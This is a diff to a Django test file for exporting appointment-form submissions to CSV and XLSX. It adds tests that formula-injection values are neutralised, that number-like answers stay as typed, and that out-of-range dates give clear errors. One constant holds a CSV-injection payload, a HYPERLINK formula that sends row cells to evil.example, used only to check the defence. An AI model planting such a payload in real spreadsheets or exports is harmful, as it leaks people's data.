@@ -156,7 +156,9 @@ def spreadsheet_could_run(cell):
 
     rest = cell
     while rest and (
-        rest[0].isspace() or unicodedata.category(rest[0]) in {"Cc", "Cf", "Co", "Cn", "Zs", "Mn", "Me"}
+        rest[0] in '"\t\r'
+        or rest[0].isspace()
+        or unicodedata.category(rest[0]) in {"Cc", "Cf", "Co", "Cn", "Zs", "Mn", "Me"}
     ):
         rest = rest[1:]
     return unicodedata.normalize("NFKC", rest[:1])[:1] in {"=", "+", "-", "@"}
@@ -175,11 +177,16 @@ def test_no_value_ever_becomes_a_formula_in_csv_or_xlsx(form_page, value):
         columns = export.export_columns([form_page], with_page=False)
         position = [column.label for column in columns].index("First name")
 
-        cell = read_csv(b"".join(export.csv_chunks(queryset, columns)))[1][position]
+        raw = b"".join(export.csv_chunks(queryset, columns))
+        cell = read_csv(raw)[1][position]
         if spreadsheet_could_run(value):
-            assert cell == "'" + value  # neutralised, and otherwise the value as stored
-        else:
-            assert cell == value
+            assert cell.startswith("'")  # neutralised
+        assert not spreadsheet_could_run(cell)
+        # Otherwise the value as stored: only apostrophes were put in front of what could run.
+        assert cell.replace("'", "") == value.replace("'", "")
+        # Opened with ";" (Excel's separator in many locales), no cell runs either.
+        for row in csv.reader(io.StringIO(raw[3:].decode(), newline=""), delimiter=";"):
+            assert not [piece for piece in row if spreadsheet_could_run(piece)], row
 
         buffer = io.BytesIO()
         export.write_xlsx(queryset, columns, buffer)
@@ -205,7 +212,7 @@ def test_first_chunk_is_sent_before_the_database_is_read(form_page, django_asser
     chunks = export.csv_chunks(AppointmentSubmission.objects.all(), columns)
     with django_assert_num_queries(0):
         first = next(chunks)
-    assert first.startswith(b"\xef\xbb\xbfReference,Received,Status,")
+    assert first.startswith(b'\xef\xbb\xbf"Reference","Received","Status",')
 
 
 def test_export_reads_rows_in_chunks_not_all_at_once(form_page, django_assert_max_num_queries):
@@ -281,3 +288,107 @@ def test_every_export_path_goes_through_the_one_entry_point(
     assert "Élodie" in per_form.decode("utf-8-sig") and "Élodie" in api.decode("utf-8-sig")
     assert ["Élodie"] == [value for row in read_xlsx(inbox)[1] for value in row if value == "Élodie"]
     assert (tmp_path / "out.csv").read_bytes() == per_form  # same columns, same bytes
+
+
+# --- Separators (audit finding M1) and numbers that are text ----------------------------------
+
+# A quote-free comment that, opened with ";" as separator, was a live link carrying the row.
+SEPARATOR_ATTACK = 'x;=1+2;y;=HYPERLINK("http://evil.example/?"&B2&C2;"Click")'
+
+
+def test_a_separator_inside_an_answer_never_starts_a_formula(staff, form_page):
+    make_submission(form_page, first_name="Zoë", your_comments=SEPARATOR_ATTACK, state="a,b\n=1+1")
+
+    raw = download(staff, reverse(INDEX), {"export": "csv"})
+
+    header, row = read_csv(raw)
+    values = dict(zip(header, row, strict=True))
+    # Read with its own separator: one cell each, every cell quoted, the formulas behind apostrophes.
+    assert values["Your comments"] == 'x;\'=1+2;y;\'=HYPERLINK("http://evil.example/?"&B2&C2;"Click")'
+    assert values["State"] == "a,b\n'=1+1"
+    assert b"\"x;'=1+2;y;" in raw
+    # Read with ";" or a tab, as a spreadsheet in many locales does: nothing starts a formula.
+    for delimiter in (";", "\t"):
+        cells = [
+            cell
+            for row in csv.reader(io.StringIO(raw[3:].decode(), newline=""), delimiter=delimiter)
+            for cell in row
+        ]
+        assert [cell for cell in cells if spreadsheet_could_run(cell)] == []
+
+
+def test_a_number_like_answer_is_kept_as_typed_in_both_formats(staff, form_page):
+    make_submission(form_page, first_name="Zero", state="0123")
+
+    header, row = read_csv(download(staff, reverse(INDEX), {"export": "csv"}))
+    assert dict(zip(header, row, strict=True))["State"] == "0123"  # no apostrophe, no noise
+    sheet, rows = read_xlsx(download(staff, reverse(INDEX), {"export": "xlsx"}))
+    cell = sheet.cell(row=2, column=rows[0].index("State") + 1)
+    assert (cell.value, cell.data_type, cell.number_format) == ("0123", "s", "@")
+
+
+# --- Date filters out of range: a message saying what to fix, never a 500 ------------------------
+
+OUT_OF_RANGE = "9999-12-31 is out of range: enter a date from 1900-01-01 to 9998-12-31"
+
+
+def test_inbox_date_out_of_range_is_reported_next_to_the_field(staff, form_page):
+    make_submission(form_page, first_name="Kept")
+
+    response = staff.get(reverse(INDEX), {"received_to": "9999-12-31"})
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert OUT_OF_RANGE in html and 'aria-invalid="true"' in html
+    assert "Kept" in html  # the bad date is not applied
+    assert staff.get(reverse(INDEX), {"received_from": "0001-01-01"}).status_code == 200
+    assert staff.get(reverse(INDEX), {"received_to": "9998-12-31"}).status_code == 200
+
+
+def test_inbox_export_with_a_date_out_of_range_is_refused_with_the_reason(staff, form_page):
+    make_submission(form_page, first_name="Kept")
+
+    response = staff.get(reverse(INDEX), {"received_to": "9999-12-31", "export": "csv", "status": "new"})
+
+    assert response.status_code == 302
+    assert "export" not in response["Location"] and "status=new" in response["Location"]
+    followed = staff.get(response["Location"])
+    assert followed.status_code == 200 and OUT_OF_RANGE in followed.content.decode()
+
+
+def test_api_date_out_of_range_is_a_validation_error(superuser, form_page):
+    from tests.lead_forms.test_api_staff import bearer
+
+    client = bearer(superuser)
+    for url in ("/api/v3/appointment-requests/", "/api/v3/appointment-requests/export/"):
+        for name in ("until", "since"):
+            response = client.get(url, {name: "9999-12-31"})
+            assert response.status_code == 422, (url, name, response.status_code)
+            assert OUT_OF_RANGE in response.content.decode()
+    assert client.get("/api/v3/appointment-requests/", {"until": "9998-12-31"}).status_code == 200
+
+
+def test_command_date_out_of_range_says_what_to_type(tmp_path):
+    from django.core.management import CommandError, call_command
+
+    with pytest.raises(CommandError, match=f"--until {OUT_OF_RANGE}"):
+        call_command("export_appointment_requests", "--until", "9999-12-31", "-o", tmp_path / "out.csv")
+    assert not (tmp_path / "out.csv").exists()
+
+
+def test_filter_requests_refuses_dates_it_cannot_end(form_page):
+    import datetime
+
+    with pytest.raises(ValueError, match=OUT_OF_RANGE):
+        export.filter_requests(until=datetime.date.max)
+    make_submission(form_page, first_name="Kept")
+    assert export.filter_requests(since=export.FIRST_DAY, until=export.LAST_DAY).count() == 1
+
+
+def test_per_form_export_date_out_of_range_is_not_a_server_error(staff, form_page):
+    make_submission(form_page, first_name="Kept")
+    url = reverse("wagtailforms:list_submissions", args=[form_page.pk])
+
+    for params in ({"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}):
+        response = staff.get(url, {**params, "export": "csv"})
+        assert response.status_code < 500, (params, response.status_code)
